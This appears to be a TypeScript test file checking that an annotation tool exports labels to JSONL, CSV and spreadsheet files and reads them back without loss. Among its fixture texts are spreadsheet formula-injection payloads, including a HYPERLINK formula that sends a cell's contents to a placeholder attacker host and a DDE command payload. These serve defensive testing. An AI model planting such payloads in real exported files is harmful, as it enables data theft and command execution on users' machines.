// Exporting labels from a project and importing them into another, with a real engine and realistic files (B9).
import { says } from '../../harness/english.ts';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { quotedRows } from '../../../src/adapters/csv/quotedRows.ts';
import { openFileSource } from '../../../src/adapters/files/fileSource.ts';
import type { ByteSource } from '../../../src/core/pool/byteSource.ts';
import { openPool } from '../../../src/core/pool/openPool.ts';
import type { Engine as EnginePort } from '../../../src/core/engine/engineApi.ts';
import { typeScriptOps } from '../../../src/core/math/matrixOps.ts';
import { projectDefaults, type ProjectFile } from '../../../src/core/projectFile/projectFile.ts';
import { recordIdOf, type PoolRecord } from '../../../src/core/record.ts';
import { MemoryStore } from '../../support/memoryStore.ts';
import { Engine } from '../../../src/engine/engine.ts';
import { exportLabels } from '../../../src/host/exportFile.ts';
import { poolSpecOf } from '../../../src/host/resolvePoolSpec.ts';
import type { ExportOptions } from '../../../src/core/interchange/exportOptions.ts';

let root: string;
before(() => (root = mkdtempSync(join(tmpdir(), 'marginalia-export-'))));
after(() => rmSync(root, { recursive: true, force: true }));

interface Row {
  readonly id: string;
  readonly text: string;
  readonly context: Readonly<Record<string, string>>;
  readonly label?: string;
}

/** Tricky texts; each row of a text has its own id. */
const texts = [
  'plain',
  'with, comma; semicolon\tand tab',
  'with "quotes" and ""more""',
  'two\nlines',
  'three\r\nlines\r\nand "quotes",',
  '=HYPERLINK("http://evil.invalid?"&A1,"see")',
  "=cmd|'/c calc'!A1",
  "'=already guarded",
  '+1 for this',
  '-- a list',
  '@someone',
  '  leading blanks',
  'naïve 😀 \u2028 مرحبا',
  "'quoted'",
];
const rows: Row[] = [0, 1, 2].flatMap((copy) =>
  texts.map((text, i) => ({
    id: `${1_700_341_480_978_622_000n + BigInt(100 * copy + i)}`,
    // Trailing white space does not distinguish texts, but each row keeps its own.
    text: copy === 1 ? `${text} ` : text,
    context: { channel: ['=1+1', '-5', 'e-mail'][copy]!, 'a "field"': text },
  })),
);

const project = (pool: string, more: Partial<ProjectFile> = {}): ProjectFile => ({
  ...projectDefaults,
  pool: [{ path: pool }],
  text: ['text'],
  id: 'id',
  context: ['channel', 'a "field"'],
  labels: [{ name: 'A' }, { name: '=B' }],
  ...more,
});

/** A project's pool with an in-process engine. */
class Opened {
  readonly folder: string;
  readonly engine: Pick<EnginePort, 'read' | 'rowsOf' | 'readRows'>;
  readonly #handlers: Engine['handlers'];
  readonly #sources: ByteSource[] = [];
  readonly #project: ProjectFile;

  constructor(folder: string, settings: ProjectFile) {
    this.folder = folder;
    this.#project = settings;
    const engine = new Engine({
      ops: Promise.resolve(typeScriptOps),
      quotedRows,
      openSource: async (file) => {
        const source = await openFileSource(file);
        this.#sources.push(source);
        return source;
      },
      openTransformer: () => Promise.reject(new Error('no model is asked for')),
      openBundledModel: () => Promise.reject(new Error('no model is asked for')),
      openServer: () => Promise.reject(new Error('There is no server in this test.')),
      openVectors: () => Promise.reject(new Error('There are no vectors in this test.')),
      openStatic: () => Promise.reject(new Error('There is no table in this test.')),
      languagesOf: () => [{ code: 'eng', share: 1 }],
    });
    this.#handlers = engine.handlers;
    const { signal } = new AbortController();
    const context = { signal, onProgress: () => undefined };
    this.engine = {
      read: async (params) => this.#handlers.read(params, context),
      // Copied, as between processes.
      rowsOf: async (params) => structuredClone(await this.#handlers.rowsOf(params, context)),
      readRows: async (params) => this.#handlers.readRows(structuredClone(params), context),
    };
  }

  async open(): Promise<this> {
    const { signal } = new AbortController();
    await this.#handlers.openPool(
      {
        pool: await poolSpecOf(this.#project, this.folder),
        folder: this.folder,
        name: 'p',
        cacheDir: join(this.folder, 'cache'),
        seed: 1,
      },
      { signal, onProgress: () => undefined },
    );
    return this;
  }

  async close(): Promise<void> {
    await Promise.all(this.#sources.map((source) => source.close()));
  }
}

/** Every row of a file in order, read like a pool, with the labels of its label column. */
async function readBack(folder: string, file: string): Promise<Row[]> {
  const spec = await poolSpecOf(
    project(file, { labelField: { field: 'label', use: 'annotations' } }),
    folder,
  );
  const source = await openFileSource({ location: join(folder, file), path: file });
  const pool = await openPool(spec, [source], { quotedRows });
  try {
    const all = pool.index.rowsOf(Array(pool.index.size).keys());
    const own: PoolRecord[] = await pool.readOwn(all);
    assert.deepEqual(pool.labels.conflicts, []);
    return own.map(({ sourceId, text, context }, i) => {
      const label = pool.labels.of(all.records[i]!);
      return { id: sourceId!, text, context, ...(label === undefined ? {} : { label }) };
    });
  } finally {
    await pool.close();
  }
}

const labelOf = (text: string): string | undefined =>
  [undefined, 'A', '=B'][texts.indexOf(text.trimEnd()) % 3];

/** A store with an answer for every text that has a label. */
function answered(): MemoryStore {
  const store = new MemoryStore({ project: 'p', identityVersion: 1 });
  texts.forEach((text, i) => {
    const label = labelOf(text);
    if (label === undefined) return;
    const event = { id: `${i}`, at: 1000 + i, annotator: '=ada', recordId: recordIdOf(text) };
    store.append({ ...event, kind: 'label', label });
    store.append({ ...event, id: `n${i}`, kind: 'note', note: '=1+1\n"note"' });
  });
  return store;
}

/** The pool in two common formats. */
function writePool(folder: string, kind: 'jsonl' | 'csv'): string {
  const flat = rows.map(({ id, text, context }) => ({ id, text, ...context }));
  const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;
  const content =
    kind === 'jsonl'
      ? // Numeric ids, as most programs write them.
        flat.map(({ id, ...rest }) => JSON.stringify(rest).replace('{', `{"id":${id},`)).join('\n')
      : [Object.keys(flat[0]!), ...flat.map((row) => Object.values(row))]
          .map((cells) => cells.map(quoted).join(','))
          .join('\n');
  writeFileSync(join(folder, `pool.${kind}`), content);
  return `pool.${kind}`;
}

async function exported(
  opened: Opened,
  options: Pick<ExportOptions, 'format' | 'rows'>,
  store = answered(),
): Promise<{ file: string; rows: number; answers: number }> {
  const file = `out.${options.format === 'jsonl' ? 'jsonl' : 'csv'}`;
  const source = { store, engine: opened.engine, project: project(''), isProjectFile: () => false };
  const to = join(opened.folder, file);
  const { rows, answers } = await exportLabels({ ...options, to, labels: [] }, source);
  return { file, rows, answers };
}

for (const kind of ['jsonl', 'csv'] as const) {
  describe(`B9 labels of a pool in ${kind}`, () => {
    let opened: Opened;
    before(async () => {
      const folder = mkdtempSync(join(root, `${kind}-`));
      opened = await new Opened(folder, project(writePool(folder, kind))).open();
    });
    after(() => opened.close());

    for (const format of ['jsonl', 'csv', 'spreadsheet'] as const) {
      test(`as ${format}: every labelled row, in file order, and a lossless round trip`, async () => {
        const { file, ...counted } = await exported(opened, { format });
        const expected = rows.flatMap((row) => {
          const label = labelOf(row.text);
          return label === undefined ? [] : [{ ...row, label }];
        });
        const labelled = texts.filter((text) => labelOf(text) !== undefined);
        assert.deepEqual(counted, { rows: 3 * labelled.length, answers: labelled.length });
        assert.deepEqual(await readBack(opened.folder, file), expected);
      });

      test(`as ${format}, one row per answer: the first row of each text`, async () => {
        const { file, ...counted } = await exported(opened, { format, rows: 'answers' });
        assert.equal(counted.rows, counted.answers);
        const back = await readBack(opened.folder, file);
        assert.deepEqual(
          back.map(({ id, label }) => [id, label]),
          texts.flatMap((text, i) => {
            const label = labelOf(text);
            return label === undefined ? [] : [[rows[i]!.id, label]];
          }),
        );
      });
    }
  });
}

test('B9 an export read as a pool with a label column gives the same labels', async () => {
  const folder = mkdtempSync(join(root, 'again-'));
  const first = await new Opened(folder, project(writePool(folder, 'csv'))).open();
  const { file } = await exported(first, { format: 'spreadsheet' });
  await first.close();
  const labelField = { field: 'label', use: 'annotations' } as const;
  const second = await new Opened(folder, project(file, { labelField })).open();
  const { records } = await second.engine.rowsOf({ ids: texts.map(recordIdOf) });
  assert.equal(records.length, 3 * texts.filter((text) => labelOf(text) !== undefined).length);
  await second.close();
});

test('B9 all 1,200 ids of the sample are exported, including those of repeated texts', async () => {
  const folder = mkdtempSync(join(root, 'sample-'));
  const sample = readFileSync(resolve('media/sample/support.jsonl'), 'utf8');
  writeFileSync(join(folder, 'support.jsonl'), sample);
  const all = sample
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as { id: string; text: string });
  const settings = project('support.jsonl', { context: [] });
  const opened = await new Opened(folder, settings).open();
  const store = new MemoryStore({ project: 'p', identityVersion: 1 });
  const unique = [...new Set(all.map(({ text }) => recordIdOf(text)))];
  assert.ok(unique.length < all.length, 'the sample has repeated texts');
  store.append(
    unique.map((recordId, i) => ({
      id: `${i}`,
      at: i,
      annotator: 'ada',
      kind: 'label' as const,
      recordId,
      label: 'A',
    })),
  );
  const { file, ...counted } = await exported(opened, { format: 'csv' }, store);
  assert.deepEqual(counted, { rows: all.length, answers: unique.length });
  const written = readFileSync(join(folder, file), 'utf8').trimEnd().split('\r\n').slice(1);
  assert.deepEqual(
    written.map((line) => line.split(',')[0]),
    all.map(({ id }) => String(id)),
  );
  await opened.close();
});

test('an export neither overwrites the project nor leaves a partial file', async () => {
  const folder = mkdtempSync(join(root, 'refused-'));
  const opened = await new Opened(folder, project(writePool(folder, 'jsonl'))).open();
  const store = answered();
  const source = { store, engine: opened.engine, project: project('') };
  const to = join(folder, 'pool.jsonl');
  const former = readFileSync(to, 'utf8');
  await assert.rejects(
    exportLabels(
      { format: 'jsonl', to, labels: [] },
      { ...source, isProjectFile: (path) => path === to },
    ),
    says(/belongs to the project.*Choose another name/),
  );
  writeFileSync(to, `${former.slice(0, 200)}x${former.slice(200)}`);
  const out = join(folder, 'out.jsonl');
  writeFileSync(out, 'former');
  await assert.rejects(
    exportLabels(
      { format: 'jsonl', to: out, labels: [] },
      { ...source, isProjectFile: () => false },
    ),
    says(/has changed since it was read/),
  );
  assert.equal(readFileSync(out, 'utf8'), 'former');
  await opened.close();
});

test('a label of a record missing from the pool comes last, under its former id', async () => {
  const folder = mkdtempSync(join(root, 'lost-'));
  const opened = await new Opened(folder, project(writePool(folder, 'jsonl'))).open();
  const store = answered();
  const lost = { id: 'x', at: 1, annotator: 'ada', recordId: 'f'.repeat(32), sourceId: 'was 7' };
  store.append({ ...lost, kind: 'label', label: 'A' });
  const { file, ...counted } = await exported(opened, { format: 'jsonl' }, store);
  const written = readFileSync(join(folder, file), 'utf8').trimEnd().split('\n');
  assert.equal(written.length, counted.rows);
  const last = JSON.parse(written.at(-1)!) as Record<string, unknown>;
  assert.deepEqual([last['id'], last['text']], ['was 7', null]);
  await opened.close();
});
